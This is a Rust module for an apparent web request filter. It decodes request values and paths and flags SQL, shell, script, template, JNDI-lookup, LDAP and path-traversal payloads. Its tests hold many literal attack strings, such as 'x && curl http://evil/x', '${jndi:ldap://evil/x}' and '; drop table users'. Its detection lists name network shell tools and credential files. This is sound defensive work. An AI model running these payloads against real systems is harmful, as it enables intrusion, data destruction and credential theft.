//! Payloads: text in a request that is written for an interpreter behind the application.
//!
//! Patterns ask for the grammar of an attack and not for its words: a quote that closes a string *and* what goes on
//! after it, a separator *and* a command *and* its argument. Prose about SQL, names with quotes, filters and
//! templates that were left unfilled are not meant. It does not see what is in bodies, nor encodings of the
//! application's own.

/// What a payload is written for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Payload {
    /// A database.
    Sql,
    /// A file system.
    Traversal,
    /// A shell.
    Command,
    /// A browser.
    Script,
    /// A template engine.
    Template,
    /// A logger that looks names up (CVE-2021-44228).
    Lookup,
    /// A directory.
    Ldap,
}

impl Payload {
    /// Its name in sentences.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Sql => "SQL",
            Self::Traversal => "path traversal",
            Self::Command => "shell command",
            Self::Script => "script",
            Self::Template => "template expression",
            Self::Lookup => "JNDI lookup",
            Self::Ldap => "LDAP filter",
        }
    }
}

/// Longest text that is looked at, in bytes, decoded. Payloads work in far less.
pub const MAX_TEXT: usize = 4096;

/// Appends what a text stands for: percent-encoding undone up to three times, `+` as a space if asked for, in lower
/// case, bytes beyond ASCII as `ÿ`. Says how many times it was encoded.
pub fn decode(text: &[u8], plus: bool, out: &mut String) -> u8 {
    out.clear();
    let mut bytes: Vec<u8> = text.iter().take(MAX_TEXT).copied().collect();
    let mut times = 0;
    while times < 3 && undo(&mut bytes, plus && times == 0) {
        times += 1;
    }
    out.extend(bytes.iter().map(|b| if b.is_ascii() { char::from(b.to_ascii_lowercase()) } else { 'ÿ' }));
    times
}

/// Undoes one layer of percent-encoding in place. Whether there was any.
fn undo(bytes: &mut Vec<u8>, plus: bool) -> bool {
    let (mut read, mut found) = (0, false);
    let mut decoded = Vec::with_capacity(bytes.len());
    while let Some(byte) = bytes.get(read) {
        let escape = bytes.get(read + 1..read + 3).filter(|_| *byte == b'%').and_then(hex);
        if let Some(value) = escape {
            decoded.push(value);
            read += 3;
            found = true;
        } else {
            decoded.push(if plus && *byte == b'+' { b' ' } else { *byte });
            read += 1;
        }
    }
    *bytes = decoded;
    found
}

/// The value of two hexadecimal digits.
#[must_use]
pub fn hex(digits: &[u8]) -> Option<u8> {
    let digit = |at: usize| char::from(*digits.get(at)?).to_digit(16);
    u8::try_from(digit(0)? * 16 + digit(1)?).ok()
}

/// What a decoded value of a query or header is written for.
#[must_use]
pub fn of_value(value: &str) -> Option<Payload> {
    if is_lookup(value) {
        Some(Payload::Lookup)
    } else if is_script(value) {
        Some(Payload::Script)
    } else if is_template(value) {
        Some(Payload::Template)
    } else if is_sql(value) {
        Some(Payload::Sql)
    } else if is_command(value) {
        Some(Payload::Command)
    } else if is_traversal(value) {
        Some(Payload::Traversal)
    } else {
        value.contains("*)(").then_some(Payload::Ldap)
    }
}

/// What a decoded path is written for. `times` is how often it was encoded.
#[must_use]
pub fn of_path(path: &str, times: u8) -> Option<Payload> {
    if is_lookup(path) {
        Some(Payload::Lookup)
    } else if is_script(path) {
        Some(Payload::Script)
    } else if leaves_root(path, times) {
        Some(Payload::Traversal)
    } else if is_template(path) {
        Some(Payload::Template)
    } else if is_sql(path) {
        Some(Payload::Sql)
    } else {
        is_command(path).then_some(Payload::Command)
    }
}

/// `${jndi:`, also taken apart as in `${${lower:j}ndi:` and `${${::-j}${::-n}di:`.
fn is_lookup(text: &str) -> bool {
    const PARTS: [&str; 5] = ["${lower:", "${upper:", "${::-", "${env:", "${sys:"];
    text.contains("${jndi:")
        || text.find("${").is_some_and(|at| {
            let rest = text.get(at + 2..).unwrap_or_default();
            rest.contains("${")
                && PARTS.iter().any(|part| text.contains(part))
                && text.contains(':')
                && (rest.contains("ndi") || rest.contains("://") || text.matches("${").count() >= 3)
        })
}

fn is_script(text: &str) -> bool {
    const TAGS: [&str; 8] = ["script", "iframe", "svg", "img", "body", "object", "embed", "math"];
    let opens = text.match_indices('<').any(|(at, _)| {
        let rest = text.get(at + 1..).unwrap_or_default();
        let name: usize = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
        let (tag, inside) = rest.split_at(name);
        let inside = inside.split('>').next().unwrap_or_default();
        let ends = inside.len() < rest.len() - name || inside.contains('=');
        match tag {
            "" => false,
            "script" | "iframe" => inside.is_empty() || inside.starts_with([' ', '/', '\t', '\n']),
            _ if !ends => false,
            tag => (TAGS.contains(&tag) || inside.contains(['"', '\'', '='])) && has_handler(inside),
        }
    });
    let calls = |rest: &str| rest.contains('(') || rest.contains('`') || rest.contains("//");
    opens
        || text.trim_start().strip_prefix("javascript:").is_some_and(calls)
        || text.split_once('"').is_some_and(|(_, rest)| breaks_attribute(rest))
        || text.split_once('\'').is_some_and(|(_, rest)| breaks_attribute(rest))
}

/// ` onerror=` and its like: an attribute that runs.
fn has_handler(inside: &str) -> bool {
    inside.match_indices("on").any(|(at, _)| {
        let before = inside.as_bytes().get(at.wrapping_sub(1)).copied();
        let rest = inside.get(at + 2..).unwrap_or_default();
        let letters = rest.bytes().take_while(u8::is_ascii_lowercase).count();
        let follows = rest.get(letters..).unwrap_or_default().trim_start();
        letters >= 3
            && follows.starts_with('=')
            && matches!(before, Some(b' ' | b'/' | b'\t' | b'\n' | b'"' | b'\''))
    })
}

/// After a quote: ` onmouseover=alert(1)`.
fn breaks_attribute(rest: &str) -> bool {
    rest.starts_with([' ', '/']) && has_handler(rest) && rest.contains('(')
}

fn is_template(text: &str) -> bool {
    const INSIDE: [&str; 10] = [
        "__class__",
        "__globals__",
        "__mro__",
        "__subclasses__",
        "t(java.lang",
        "getruntime",
        "freemarker.template",
        "constructor.constructor",
        "self.environment",
        "config.items",
    ];
    let opens = ["{{", "${", "#{", "<%=", "*{", "@{"];
    let sums = opens.iter().any(|open| {
        text.match_indices(open).any(|(at, _)| {
            let inside = text.get(at + open.len()..).unwrap_or_default().trim_start();
            is_product(inside)
        })
    });
    sums || (opens.iter().any(|open| text.contains(open)) && INSIDE.iter().any(|word| text.contains(word)))
}

/// `7*7}`: a sum that only an engine would work out. `7*'7'` too.
fn is_product(inside: &str) -> bool {
    let digits = |text: &str| text.bytes().take_while(u8::is_ascii_digit).count();
    let first = digits(inside);
    let Some(rest) = inside.get(first..).map(str::trim_start) else { return false };
    let Some(rest) = rest.strip_prefix('*').map(|rest| rest.trim_start().trim_start_matches('\'')) else {
        return false;
    };
    let second = digits(rest);
    let end = rest.get(second..).unwrap_or_default().trim_start_matches('\'').trim_start();
    first > 0 && second > 0 && (end.starts_with('}') || end.starts_with('%'))
}

/// White space and comments as single spaces.
fn squeezed(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(comment) = rest.strip_prefix("/*").filter(|comment| comment.contains("*/")) {
            rest = comment.split_once("*/").map(|(_, after)| after).unwrap_or_default();
            if !out.ends_with(' ') {
                out.push(' ');
            }
            continue;
        }
        rest = rest.get(c.len_utf8()..).unwrap_or_default();
        if !c.is_whitespace() {
            out.push(c);
        } else if !out.ends_with(' ') {
            out.push(' ');
        }
    }
    out
}

fn is_sql(text: &str) -> bool {
    const SIGNS: [&str; 11] =
        ["order by", "'", "\"", "union", "select", ";", "sleep", " or ", " and ", "/**/", "||"];
    if !SIGNS.iter().any(|sign| text.contains(sign)) {
        return false;
    }
    let text = squeezed(text);
    is_union(&text)
        || is_tautology(&text)
        || is_stacked(&text)
        || is_timed(&text)
        || is_probe(&text)
        || ends_in_comment(&text)
}

/// `1 union select …`, `' union all select …`: after a value that it closes.
fn is_union(text: &str) -> bool {
    text.match_indices("union").any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default().trim_end();
        let closes = before.is_empty() || before.ends_with(['\'', '"', ')', '`']) || ends_in_number(before);
        let rest = text.get(at + 5..).unwrap_or_default().trim_start();
        let rest = rest.strip_prefix("all").or_else(|| rest.strip_prefix("distinct")).unwrap_or(rest);
        let Some(rest) = rest.trim_start_matches([' ', '(']).strip_prefix("select") else { return false };
        let what = rest.trim_start_matches([' ', '(']);
        let listed =
            what.contains(',') || what.contains(" from ") || what.contains("--") || what.contains('#');
        let value = what.starts_with(|c: char| c.is_ascii_digit() || matches!(c, '\'' | '"' | '*' | '@'))
            || what.starts_with("null")
            || what.starts_with("concat(")
            || what.starts_with("char(");
        closes && (listed || value)
    })
}

fn ends_in_number(text: &str) -> bool {
    let word = text.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
    !word.is_empty() && word.bytes().all(|b| b.is_ascii_digit())
}

/// `' or '1'='1`, `1 and 1=2`, `" or ""="`: a comparison of two values after one that is closed.
fn is_tautology(text: &str) -> bool {
    ["or", "and", "||", "&&", "xor"].iter().any(|word| {
        text.match_indices(word).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default();
            let rest = text.get(at + word.len()..).unwrap_or_default();
            let is_sign = !word.starts_with(|c: char| c.is_ascii_alphabetic());
            let apart = before.ends_with([' ', '\'', '"', ')']) && rest.starts_with([' ', '\'', '"', '(']);
            if !(apart || is_sign) {
                return false;
            }
            let trimmed = before.trim_end_matches([' ', ')']);
            let quoted = trimmed.ends_with(['\'', '"']);
            (quoted || ends_in_number(trimmed)) && compares(rest, quoted)
        })
    })
}

/// A comparison of two values; after a quote also one value that ends in a comment.
fn compares(rest: &str, quoted: bool) -> bool {
    let rest = rest.trim_start_matches([' ', '(']);
    let rest = rest.strip_prefix("not ").unwrap_or(rest);
    let Some((first, after)) = literal(rest) else { return false };
    let after = after.trim_start_matches([' ', ')']);
    if quoted && (after.starts_with("--") || after.starts_with('#')) {
        return true;
    }
    let operator = ["<=>", "!=", "<>", "like ", "=", "<", ">"].iter().find(|sign| after.starts_with(**sign));
    let Some(operator) = operator.filter(|sign| quoted || matches!(**sign, "=" | "like ")) else {
        return false;
    };
    let second = after.get(operator.len()..).unwrap_or_default().trim_start();
    !first.is_empty() && literal(second).is_some()
}

/// A number, a quoted string (its end may be cut off), `true` or `false`; and what follows.
fn literal(text: &str) -> Option<(&str, &str)> {
    let first = text.chars().next()?;
    if matches!(first, '\'' | '"') {
        let inside = text.get(1..)?;
        let end = inside.find(first).map_or(text.len(), |at| at + 2);
        return (end <= 66).then(|| text.split_at(end));
    }
    let digits = text.bytes().take_while(u8::is_ascii_digit).count();
    if digits > 0 {
        return Some(text.split_at(digits));
    }
    ["true", "false"].iter().find(|word| text.starts_with(**word)).map(|word| text.split_at(word.len()))
}

/// `'; drop table users`.
fn is_stacked(text: &str) -> bool {
    const VERBS: [&str; 13] = [
        "drop table ",
        "drop database ",
        "drop schema ",
        "delete from ",
        "insert into ",
        "truncate table ",
        "alter table ",
        "create user ",
        "exec xp_",
        "exec master",
        "exec sp_",
        "waitfor delay",
        "declare @",
    ];
    text.match_indices(';').any(|(at, _)| {
        let rest = text.get(at + 1..).unwrap_or_default().trim_start();
        VERBS.iter().any(|verb| rest.starts_with(verb))
            || (rest.starts_with("update ") && rest.contains(" set ") && rest.contains('='))
            || (rest.starts_with("select ") && rest.contains(" from "))
    })
}

/// Functions that make a database wait.
fn is_timed(text: &str) -> bool {
    let called = |name: &str| {
        text.match_indices(name).any(|(at, _)| {
            let rest = text.get(at + name.len()..).unwrap_or_default().trim_start();
            rest.starts_with(|c: char| c.is_ascii_digit())
        })
    };
    let spliced =
        ["'", "\"", " and ", " or ", "select", "if(", "||", ";"].iter().any(|sign| text.contains(sign));
    called("pg_sleep(")
        || (called("benchmark(") && text.contains(','))
        || text.contains("waitfor delay '")
        || text.contains("dbms_pipe.receive_message(")
        || (called("sleep(") && spliced)
        || (called("randomblob(") && spliced)
}

/// What asks a database about itself.
fn is_probe(text: &str) -> bool {
    const TABLES: [&str; 6] =
        ["information_schema.", "sqlite_master", "pg_catalog.", "sys.databases", "@@version", "sysobjects"];
    let selects = text.contains("select") && (text.contains("from") || text.contains("@@"));
    (selects && TABLES.iter().any(|table| text.contains(table)))
        || ((text.contains("extractvalue(") || text.contains("updatexml(")) && text.contains("concat"))
        || text.contains("into outfile '")
        || text.contains("into dumpfile '")
        || text.contains("xp_cmdshell")
        || (text.contains("load_file(") && text.contains("select"))
        || text.split_once("order by ").is_some_and(|(before, rest)| {
            let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
            let after = rest.get(digits..).unwrap_or_default().trim_start();
            let closes = before.trim_end().ends_with(['\'', '"', ')']) || ends_in_number(before.trim_end());
            digits > 0 && closes && (after.starts_with("--") || after.starts_with('#'))
        })
}

/// `admin'--`: a quote that closes a string, and a comment that hides the rest. Quotes in pairs are prose.
fn ends_in_comment(text: &str) -> bool {
    let text = text.trim_end().trim_end_matches(" -").trim_end_matches('+').trim_end();
    let Some(rest) =
        text.strip_suffix("--").or_else(|| text.strip_suffix('#')).or_else(|| text.strip_suffix("/*"))
    else {
        return false;
    };
    let rest = rest.trim_end_matches([' ', ')', ';']);
    rest.chars().last().is_some_and(|c| matches!(c, '\'' | '"') && rest.matches(c).count() % 2 == 1)
}

/// Commands that say what they do by their arguments, and those that say it by themselves.
const COMMANDS: [&str; 22] = [
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "bash",
    "sh",
    "ping",
    "nslookup",
    "dig",
    "powershell",
    "cmd",
    "sleep",
    "echo",
    "python",
    "perl",
    "type",
    "ifconfig",
];
const TELLING: [&str; 5] = ["whoami", "uname", "ifconfig", "powershell", "nslookup"];

fn is_command(text: &str) -> bool {
    ["$(", "`", "||", "&&", ";", "|", "\n"].iter().any(|sign| {
        text.match_indices(sign).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default();
            let rest = text.get(at + sign.len()..).unwrap_or_default().trim_start();
            let rest = rest.strip_prefix("/bin/").or_else(|| rest.strip_prefix("/usr/bin/")).unwrap_or(rest);
            runs(rest, sign, before)
        })
    })
}

fn runs(rest: &str, sign: &str, before: &str) -> bool {
    let name = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
    let (command, after) = rest.split_at(name);
    if !COMMANDS.contains(&command) {
        return false;
    }
    let argument = after.trim_start_matches([' ', '\t', '+']);
    let argument = argument.strip_prefix("${ifs}").unwrap_or(argument);
    let apart = argument.len() < after.len();
    let with_argument = apart
        && (argument.starts_with(['/', '-', '$', '~', '\\'])
            || argument.starts_with("http")
            || argument.starts_with(|c: char| c.is_ascii_digit())
            || argument.contains("/etc/"));
    let ends = after.is_empty() || after.starts_with([';', '|', '&', ')', '`', '\n', '#']) || after == " ";
    // A list of names may be joined by these signs; what stands before tells a list from a value.
    let is_list = before
        .bytes()
        .all(|b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'|' | b';' | b',' | b' ' | b'='))
        && !before.trim().is_empty();
    match sign {
        "$(" => ends || with_argument,
        "`" => (ends && after.contains('`')) || (with_argument && after.contains('`')),
        _ if with_argument => true,
        _ => {
            ends && (TELLING.contains(&command) || !is_list)
                && !matches!(command, "type" | "cmd" | "python" | "perl")
        }
    }
}

/// Files that are asked for to see whether others can be.
const FILES: [&str; 9] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/",
    "win.ini",
    "boot.ini",
    "web-inf/web.xml",
    "/.ssh/id_",
    "/.aws/credentials",
];

/// A value that climbs: three steps, or fewer to a well-known file, or the file itself and nothing else.
fn is_traversal(text: &str) -> bool {
    let steps = text.matches("../").count() + text.matches("..\\").count();
    let file = FILES.iter().any(|file| text.contains(file));
    let bare = text.trim_end_matches('\0').trim_start_matches("file://");
    let alone = FILES.iter().take(4).any(|file| bare.starts_with(file)) && !text.contains(' ');
    (steps >= 3 && (text.starts_with('.') || text.starts_with('/') || text.contains("/../../../")))
        || (steps >= 1 && file)
        || alone
        || (steps >= 1 && text.contains('\0'))
}

/// A path that climbs above the root, or whose steps were hidden.
fn leaves_root(path: &str, times: u8) -> bool {
    let mut depth = 0_i32;
    let mut below = 0_i32;
    for segment in path.split(['/', '\\']) {
        match segment.split(';').next().unwrap_or_default() {
            "" | "." => {}
            ".." => depth -= 1,
            _ => depth += 1,
        }
        below = below.min(depth);
    }
    let steps = path.contains("../") || path.contains("..\\") || path.contains("..;/");
    let file = FILES.iter().any(|file| path.contains(file));
    below < 0 || (steps && times >= 2) || (steps && file) || path.contains("..;/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn value(text: &str) -> Option<Payload> {
        let mut out = String::new();
        decode(text.as_bytes(), true, &mut out);
        of_value(&out)
    }

    fn path(text: &str) -> Option<Payload> {
        let mut out = String::new();
        let times = decode(text.as_bytes(), false, &mut out);
        of_path(&out, times)
    }

    #[test]
    fn sql_is_seen() {
        for text in [
            "1' or '1'='1",
            "1%27%20OR%20%271%27%3D%271",
            "1 or 1=1",
            "' or 1=1--",
            "\" or \"\"=\"",
            "') or ('1'='1",
            "1 and 1=2",
            "admin'--",
            "admin' #",
            "x') -- -",
            "1 UNION SELECT null,null",
            "-1' union all select 1,2,3--",
            "1/**/union/**/select/**/username,password/**/from/**/users",
            "1; drop table users",
            "'; DELETE FROM users;",
            "1' and sleep(5)--",
            "1;select pg_sleep(5)",
            "1' waitfor delay '0:0:5'--",
            "1 order by 10--",
            "1 and extractvalue(1,concat(0x7e,version()))",
            "1%2527%2520or%25201%253D1--",
            "x' || '1'='1",
            "' or true--",
            "1' or 'a' like 'a",
            "1 union select @@version",
        ] {
            assert_eq!(value(text), Some(Payload::Sql), "{text}");
        }
    }

    #[test]
    fn traversal_is_seen() {
        for text in [
            "../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "....//../../../x",
            "/etc/passwd",
            "file:///etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "../x.php%00.png",
        ] {
            assert_eq!(value(text), Some(Payload::Traversal), "{text}");
        }
        for text in [
            "/static/../../etc/passwd",
            "/a/..%2f..%2f..%2fetc/passwd",
            "/%2e%2e/%2e%2e/x",
            "/a/b/%252e%252e/%252e%252e/x",
            "/a/..;/manager",
        ] {
            assert_eq!(path(text), Some(Payload::Traversal), "{text}");
        }
    }

    #[test]
    fn commands_are_seen() {
        for text in [
            "127.0.0.1;id",
            "127.0.0.1|id",
            "127.0.0.1; cat /etc/passwd",
            "$(id)",
            "`id`",
            "x && curl http://evil/x",
            "a|whoami",
            ";sleep 5",
            "8.8.8.8%0aping -c 1 evil",
            "x;wget${IFS}http://evil",
            "$(/bin/cat /etc/passwd)",
        ] {
            assert_eq!(value(text), Some(Payload::Command), "{text}");
        }
    }

    #[test]
    fn scripts_are_seen() {
        for text in [
            "<script>alert(1)</script>",
            "%3Cscript%3E",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "\" onmouseover=alert(1) x=\"",
            "<iframe src=//evil>",
            "<body onload=x()>",
        ] {
            assert_eq!(value(text), Some(Payload::Script), "{text}");
        }
    }

    #[test]
    fn templates_and_lookups_are_seen() {
        for text in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{7*'7'}}",
            "{{''.__class__.__mro__}}",
            "${T(java.lang.Runtime).getRuntime()}",
        ] {
            assert_eq!(value(text), Some(Payload::Template), "{text}");
        }
        for text in [
            "${jndi:ldap://evil/x}",
            "${${lower:j}ndi:${lower:l}dap://evil}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil}",
            "%24%7Bjndi:dns://x%7D",
        ] {
            assert_eq!(value(text), Some(Payload::Lookup), "{text}");
        }
        assert_eq!(value("*)(uid=*))(|(uid=*"), Some(Payload::Ldap));
    }

    #[test]
    fn what_people_and_programs_send_is_left_alone() {
        for text in [
            "",
            "O'Brien",
            "rock 'n' roll",
            "how to select a union representative",
            "credit union select plan, benefits from us",
            "select the best from our drop table",
            "union select",
            "it's 1 or 2",
            "a and b or c",
            "name eq 'x' or name eq 'y'",
            "status='open' and owner='me'",
            "price>5 and price<10",
            "5 and 6",
            "1 or 2 bedrooms",
            "tom & jerry",
            "a;b;c",
            "name|id",
            "id|name|ls",
            "id,name",
            "name;id",
            "fields=a|id",
            "sleep(5)",
            "{{name}}",
            "{{user.id}}",
            "${name}",
            "a<b",
            "x < 5 and y > 3",
            "<3",
            "1 < 2 > 0",
            "<b>bold</b>",
            "<p>text</p>",
            "javascript",
            "javascript: the good parts",
            "../home",
            "../../home",
            "a/../b",
            "etc/passwd",
            "what is /etc/passwd",
            "c# or java",
            "-- hello --",
            "'quoted' #1",
            "'hello' --",
            "100%",
            "50% or more",
            "2024-01-01 and 2024-02-01",
            "{\"a\":\"b or c\",\"d\":\"1=1\"}",
            "[\"x\",\"y\"]",
            "ping me at 5; echo is bad",
            "cats | dogs",
            "echo chamber",
            "https://x.example/a?b=c&d='e'",
            "john's and mary's",
            "5' or 6' tall",
            "\"exact phrase\" or \"other\"",
            "on = off",
            "(a OR b) AND (c OR d)",
            "title:\"x\" AND year:2020",
            "$filter=price gt 5 or id eq 7",
            "*",
            "(cn=x)",
            "drop table; insert coin",
        ] {
            assert_eq!(value(text), None, "{text}");
        }
        for text in [
            "/",
            "/orders/7",
            "/a/b/../c",
            "/static/x/y/../../z.png",
            "/files/my%20file%20(1).pdf",
            "/o'brien/x",
            "/a..b/c",
            "/v1/~me",
            "/it's-1-or-2",
            "/%E4%BD%A0",
            "/a;v=1/b;id=5",
        ] {
            assert_eq!(path(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn never_panics_and_stays_bounded(text in prop::collection::vec(any::<u8>(), 0..6000), plus in any::<bool>()) {
            let mut out = String::new();
            let times = decode(&text, plus, &mut out);
            prop_assert!(out.chars().count() <= MAX_TEXT && times <= 3);
            let _ = (of_value(&out), of_path(&out, times));
        }

        #[test]
        fn words_are_never_payloads(text in "[a-z]{1,8}( [a-z]{1,8}){0,6}") {
            prop_assert_eq!(value(&text), None);
        }

        #[test]
        fn grammar_in_any_order_never_panics(parts in prop::collection::vec(prop::sample::select(vec!["'", "or", " ", "1", "=", "union", "select", "<", "script", "on", "${", "{{", "7*7", "}", ";", "|", "id", "../", "/*", "*/", "--", "%27"]), 0..40)) {
            value(&parts.concat());
            path(&parts.concat());
        }
    }
}
